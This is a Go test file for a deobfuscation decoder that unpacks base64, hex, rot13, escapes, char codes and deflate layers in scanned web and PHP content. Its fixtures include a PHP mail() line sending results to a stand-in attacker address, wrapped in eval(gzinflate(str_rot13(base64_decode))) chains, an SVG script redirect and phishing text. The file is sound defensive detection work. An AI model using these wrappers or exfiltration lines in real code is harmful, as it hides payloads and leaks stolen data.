package decode

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

func b64(s string) string    { return base64.StdEncoding.EncodeToString([]byte(s)) }
func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
func hexs(s string) string   { return hex.EncodeToString([]byte(s)) }

func deflate(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func rot13s(s string) string { return string(rot13([]byte(s))) }

const mailer = `$to = "x@evil.example"; $subject = "Result"; mail($to, $subject, $message);`

// find returns the first result with this chain whose text holds want.
func find(got []Decoded, chain []string, want string) (Decoded, bool) {
	for _, d := range got {
		if strings.Join(d.Chain, ">") == strings.Join(chain, ">") && bytes.Contains(d.Text, []byte(want)) {
			return d, true
		}
	}
	return Decoded{}, false
}

func dump(got []Decoded) string {
	var b strings.Builder
	for _, d := range got {
		fmt.Fprintf(&b, "  %v @%d+%d %q\n", d.Chain, d.Offset, d.Len, d.Text)
	}
	return b.String()
}

func TestDecodeFinds(t *testing.T) {
	mime := strings.Repeat("A", 0) + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("<p>Please verify your account at https://evil.example/verify now.</p>\n", 3)))
	var wrapped strings.Builder
	for i := 0; i < len(mime); i += 76 {
		wrapped.WriteString(mime[i:min(i+76, len(mime))] + "\r\n")
	}
	for _, tc := range []struct {
		name  string
		in    string
		chain []string
		want  string
	}{
		{"base64 eval", `<?php eval(base64_decode("` + b64(mailer) + `")); ?>`, []string{Base64}, `x@evil.example`},
		{"base64 atob", `var s = atob('` + b64("https://evil.example/gate") + `');`, []string{Base64}, "https://evil.example/gate"},
		{"base64 bare literal", `$p = "` + b64(mailer) + `";`, []string{Base64}, `x@evil.example`},
		{"base64url query", `<a href="/r?u=` + b64url("https://evil.example/login?a=1&b=~~") + `">`, []string{Base64}, "https://evil.example/login"},
		{"base64 path segment", `https://cdn.example/r/` + b64url("https://evil.example/x?y=1") + `/go`, []string{Base64}, "https://evil.example/x"},
		{"base64 mime lines", "Content-Transfer-Encoding: base64\r\n\r\n" + wrapped.String(), []string{Base64}, "https://evil.example/verify"},
		{"buffer from", `const u = Buffer.from("` + b64("https://evil.example/api") + `", "base64").toString();`, []string{Base64}, "https://evil.example/api"},
		{"hex2bin", `$u = hex2bin("` + hexs("https://evil.example/") + `");`, []string{Hex}, "https://evil.example/"},
		{"hex run", `$h = '` + hexs("x@evil.example") + `';`, []string{Hex}, "x@evil.example"},
		{"hex 0x", `var h = "0x` + hexs("https://evil.example") + `"`, []string{Hex}, "https://evil.example"},
		{"x escapes", `$u = "\x68\x74\x74\x70\x73://evil.example/";`, []string{Escape}, "https://evil.example/"},
		{"mixed escapes", `$u = "ht\x74p://ev\151l.example/\x61";`, []string{Escape}, "http://evil.example/a"},
		{"u escapes", `var u = "\u0068\u0074tps://evil.example";`, []string{Escape}, "https://evil.example"},
		{"u brace escapes", "var u = `\\u{68}\\u{74}tps://evil.example`;", []string{Escape}, "https://evil.example"},
		{"rot13 call", `$u = str_rot13("uggcf://rivy.rknzcyr/tngr.cuc");`, []string{Rot13}, "https://evil.example/gate.php"},
		{"rot13 bare", `$u = 'uggcf://rivy.rknzcyr/tngr.cuc';`, []string{Rot13}, "https://evil.example/gate.php"},
		{"urldecode", `$u = urldecode("%68%74%74%70%73%3A%2F%2Fevil.example%2F");`, []string{URL}, "https://evil.example/"},
		{"percent token", `<a href="https://t.example/?next=https%3A%2F%2Fevil.example%2Fx">`, []string{URL}, "next=https://evil.example/x"},
		{"percent at", `mailto:x%40evil.example`, []string{URL}, "x@evil.example"},
		{"unescape %u", `document.write(unescape("%u0068%u0074tp%3A%2F%2Fevil.example"))`, []string{URL}, "http://evil.example"},
		{"entities", `<a href="mailto:&#120;&#64;&#101;vil.example">`, []string{Entity}, "x@evil.example"},
		{"entity at", `<span>x&#64;evil.example</span>`, []string{Entity}, "x@evil.example"},
		{"chr chain", `$u = chr(104).chr(116).chr(116).chr(112).chr(58).chr(47).chr(47)."evil.example";`, []string{Charcode}, "http://evil.example"},
		{"chr hex", `$a = CHR(0x78) . chr( 64 ) . "evil.example";`, []string{Charcode}, "x@evil.example"},
		{"fromCharCode", `var u = String.fromCharCode(104,116,116,112,115,58,47,47) + "evil.example";`, []string{Charcode}, "https://evil.example"},
		{"fromCharCode alone", `x = String.fromCharCode(120, 64, 101, 118, 105, 108, 46, 101, 120);`, []string{Charcode}, "x@evil.ex"},
		{"fromCharCode apply", `x = String.fromCharCode.apply(null, [104,116,116,112,58,47,47,101,118]);`, []string{Charcode}, "http://ev"},
		{"php concat", `$u = "ht"."tps://ev" . 'il.example/';`, []string{Concat}, "https://evil.example/"},
		{"js concat", "var u = 'ht' +\n  'tps://' + \"evil.example\";", []string{Concat}, "https://evil.example"},
		{"concat escaped quote", `$u = "a\"b" . "https://evil.example";`, []string{Concat}, `a"bhttps://evil.example`},
		{"base64 of hex", `$x = "` + b64(hexs("https://evil.example/p")) + `";`, []string{Base64, Hex}, "https://evil.example/p"},
		{"base64 of base64", `eval(base64_decode("` + b64(`eval(base64_decode("`+b64(mailer)+`"));`) + `"));`, []string{Base64, Base64}, "x@evil.example"},
		{"gzinflate base64", `eval(gzinflate(base64_decode('` + base64.StdEncoding.EncodeToString(deflate(mailer)) + `')));`, []string{Base64, Deflate}, "x@evil.example"},
		{"deflate bare", `$z = '` + base64.StdEncoding.EncodeToString(deflate(mailer)) + `';`, []string{Base64, Deflate}, "x@evil.example"},
		{"classic nest", `eval(gzinflate(str_rot13(base64_decode('` + base64.StdEncoding.EncodeToString(rot13(deflate(mailer))) + `'))));`, []string{Base64, Rot13, Deflate}, "x@evil.example"},
		{"strrev", `$u = strrev("elpmaxe.live//:sptth");`, []string{Reverse}, "https://evil.example"},
		{"concat in call", `$u = base64_decode("` + b64("https://evil.example")[:8] + `" . "` + b64("https://evil.example")[8:] + `");`, []string{Base64}, "https://evil.example"},
		{"svg data uri", `<img src="data:image/svg+xml;base64,` + b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example"</script></svg>`) + `">`, []string{Base64}, "https://evil.example"},
	} {
		got := Decode([]byte(tc.in), Options{})
		d, ok := find(got, tc.chain, tc.want)
		if !ok {
			t.Errorf("%s: no %v result holding %q; got:\n%s", tc.name, tc.chain, tc.want, dump(got))
			continue
		}
		if d.Offset < 0 || d.Len <= 0 || d.Offset+d.Len > len(tc.in) {
			t.Errorf("%s: span %d+%d outside input of %d", tc.name, d.Offset, d.Len, len(tc.in))
		}
	}
}

// TestDecodeIgnores: benign content must decode to nothing.
func TestDecodeIgnores(t *testing.T) {
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10"), bytes.Repeat([]byte{0x00, 0xff, 0x13, 0x88, 0x7a}, 60)...)
	for _, tc := range []struct{ name, in string }{
		{"png data uri", `<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(png) + `">`},
		{"png base64 alone", `var icon = "` + base64.StdEncoding.EncodeToString(png) + `";`},
		{"md5 and sha256", `$h = "d41d8cd98f00b204e9800998ecf8427e"; $s = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';`},
		{"identifiers", `document.getElementsByTagName("a"); window.addEventListener("load", fn); el.querySelectorAll(sel);`},
		{"api key", `var key = "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY";`},
		{"plain escapes", `echo "Hello\nWorld\t\"quoted\"\\";`},
		{"accent", `{"name": "caf\u00e9 cr\u00e8me", "ru": "\u041f\u0440\u0438\u0432\u0435\u0442"}`},
		{"css percent", `.a{width:100%;height:50%} printf("%s %d%%", a, b)`},
		{"concat with vars", `var h = "<div class='" + cls + "'>" + body + "</div>";`},
		{"property access", `"abc".length; 'x'.concat(y); $a . $b;`},
		{"url with spaces", `<a href="https://cdn.example/My%20File%20Name.pdf">`},
		{"minified", `!function(e,t){"use strict";var n=[],r=Object.getPrototypeOf,i=n.slice,o=n.flat?function(e){return n.flat.call(e)}:function(e){return n.concat.apply([],e)},a=n.push;e.fn=e.prototype={jquery:"3.6.0",constructor:e,length:0}}(window);`},
		{"uuid", `id = "123e4567-e89b-12d3-a456-426614174000"`},
		{"long lowercase", `abcdefghijklmnopqrstuvwxyzabcdefghijklmnop`},
	} {
		if got := Decode([]byte(tc.in), Options{}); len(got) != 0 {
			t.Errorf("%s: want nothing, got:\n%s", tc.name, dump(got))
		}
	}
}

func TestDecodeBounds(t *testing.T) {
	// Ten layers of base64 around a mailer: only MaxDepth are peeled.
	s := mailer
	for range 10 {
		s = b64(s)
	}
	got := Decode([]byte(`"`+s+`"`), Options{MaxDepth: 3})
	if len(got) != 3 {
		t.Errorf("depth 3: got %d results:\n%s", len(got), dump(got))
	}
	for _, d := range got {
		if len(d.Chain) > 3 {
			t.Errorf("chain %v deeper than 3", d.Chain)
		}
	}

	// Many payloads: output and count caps hold.
	var in strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&in, "$p%d = \"%s\";\n", i, b64(fmt.Sprintf("payload number %d to https://evil%d.example/gate.php?id=%d", i, i, i)))
	}
	for _, o := range []Options{{MaxOutput: 1000}, {MaxResults: 7}, {MaxOutput: 64 << 10, MaxResults: 100000}} {
		got := Decode([]byte(in.String()), o)
		total := 0
		for _, d := range got {
			total += len(d.Text)
		}
		o = o.withDefaults()
		if total > o.MaxOutput || len(got) > o.MaxResults || len(got) == 0 {
			t.Errorf("%+v: %d results, %d bytes", o, len(got), total)
		}
	}

	// A deflate bomb is cut at the output cap.
	bomb := base64.StdEncoding.EncodeToString(deflate(strings.Repeat("http://a.example/ ", 1<<20)))
	got = Decode([]byte(`eval(gzinflate(base64_decode("`+bomb+`")));`), Options{MaxOutput: 4096})
	if len(got) != 1 || len(got[0].Text) > 4096 {
		t.Errorf("bomb: %d results", len(got))
	}
}

// TestDecodeDedup: the same payload twice is one result, at its first
// offset.
func TestDecodeDedup(t *testing.T) {
	p := b64("https://evil.example/gate")
	in := `a = "` + p + `"; b = "` + p + `";`
	got := Decode([]byte(in), Options{})
	if len(got) != 1 || got[0].Offset != strings.Index(in, p) {
		t.Errorf("got:\n%s", dump(got))
	}
}

// TestDecodeNestedOffset: results peeled from a result carry the span of
// the outermost encoded string.
func TestDecodeNestedOffset(t *testing.T) {
	inner := b64(hexs("https://evil.example/p"))
	in := "junk junk; $x = '" + inner + "';"
	got := Decode([]byte(in), Options{})
	d, ok := find(got, []string{Base64, Hex}, "evil")
	if !ok || d.Offset != strings.Index(in, inner) || d.Len != len(inner) {
		t.Errorf("got:\n%s", dump(got))
	}
}
